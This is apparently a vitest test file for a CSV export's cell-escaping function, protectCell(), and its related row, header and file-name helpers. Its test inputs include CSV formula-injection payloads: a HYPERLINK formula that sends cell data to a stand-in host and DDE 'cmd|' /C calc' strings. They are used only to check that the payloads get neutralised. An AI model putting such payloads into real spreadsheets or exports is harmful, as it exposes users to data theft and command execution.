import { describe, expect, it } from "vitest";
import { customerRecords } from "../../../../tests/support/answer-fixture.ts";
import { recordKinds, type CollectedRecord } from "../types.ts";
import { csvHeader } from "./csv-columns.ts";
import { protectCell } from "../../shared/csv-line.ts";
import { toCsvCells } from "./csv-rows.ts";
import { csvName, kindOfCsv } from "./file-names.ts";

const customer = customerRecords()[0]!;
const cellOf = (record: CollectedRecord, column: string): string | undefined =>
  toCsvCells(record)[csvHeader(record.kind).indexOf(column)];

describe("protectCell()", () => {
  it.each([
    "=1+1",
    '=HYPERLINK("https://evil.example.test/?x="&A1)',
    "+46701740605",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "-10.00",
  ])("puts an apostrophe before %j", (text) => {
    expect(protectCell(text)).toBe(`'${text}`);
  });

  it.each([
    ["x;=cmd|' /C calc'!A0;y", "x;'=cmd|' /C calc'!A0;y"],
    ["hej\n=1+1", "hej\n'=1+1"],
    ["hej\t @SUM(A1)", "hej\t '@SUM(A1)"],
    ['x;"=1+1', "x;\"'=1+1"],
    ["a, -1|+2\r\uff1d3", "a, '-1|'+2\r'\uff1d3"],
    ["\t=1+1", "'\t'=1+1"],
    ["\r=1+1", "'\r'=1+1"],
    ["\n=1+1", "'\n'=1+1"],
  ])("makes the formula in %j one no more, wherever the line is split", (text, safe) => {
    expect(protectCell(text)).toBe(safe);
  });

  it.each(["", "Maja", "1=1", "a@example.test", "'=1+1", " =1+1", "1499.00", "#1001", "\u00e5-b"])(
    "leaves %j as it is",
    (text) => {
      expect(protectCell(text)).toBe(text);
    },
  );
});

describe("toCsvCells()", () => {
  it("protects every cell, whichever column it stands in", () => {
    const cells = toCsvCells({
      ...customer,
      id: "=id",
      parentId: "@parent",
      data: { displayName: "=name", tags: ["=tag", "other"], unknown: "=rest" },
    });
    expect(cells.filter((cell) => /^[=+\-@]/u.test(cell))).toEqual([]);
    expect(cells[0]).toBe("'=id");
  });

  it("has as many cells as the header has names, for every kind and any data", () => {
    for (const kind of recordKinds) {
      const record = { ...customer, kind, data: { note: "x", list: [1, { a: null }], no: null } };
      expect(toCsvCells(record)).toHaveLength(csvHeader(kind).length);
    }
  });

  it("puts what has no column into the last one, exactly", () => {
    const record = { ...customer, data: { note: "hej", newField: { deep: ["a", 1, true] } } };
    expect(cellOf(record, "note")).toBe("hej");
    expect(cellOf(record, "data")).toBe('{"newField":{"deep":["a",1,true]}}');
  });

  it("keeps JSON exact though a text in it holds a separator and a formula", () => {
    const data = { "a;=b": "x;=cmd|' /C calc'!A0;y", list: [1, -2], deep: { n: -1, t: "|@a\n=b" } };
    const cell = cellOf({ ...customer, data }, "data") ?? "";
    expect(JSON.parse(cell)).toEqual(data);
    expect(cell).not.toMatch(/[;|]\s*[=+\-@]/u);
  });

  it("keeps the rest of an object whose parts have columns", () => {
    const data = { amountSpent: { amount: "10.00", currencyCode: "SEK", note: "odd" } };
    expect(cellOf({ ...customer, data }, "amountSpent.amount")).toBe("10.00");
    expect(cellOf({ ...customer, data }, "data")).toBe('{"amountSpent":{"note":"odd"}}');
  });
});

describe("csvHeader()", () => {
  it("names no column twice", () => {
    for (const kind of recordKinds) {
      expect(new Set(csvHeader(kind)).size, kind).toBe(csvHeader(kind).length);
    }
  });
});

describe("csvName()", () => {
  it("gives every kind a file of its own that leads back to it", () => {
    for (const kind of recordKinds) expect(kindOfCsv(csvName(kind))).toBe(kind);
    expect(csvName("address")).toBe("addresses.csv");
  });
});
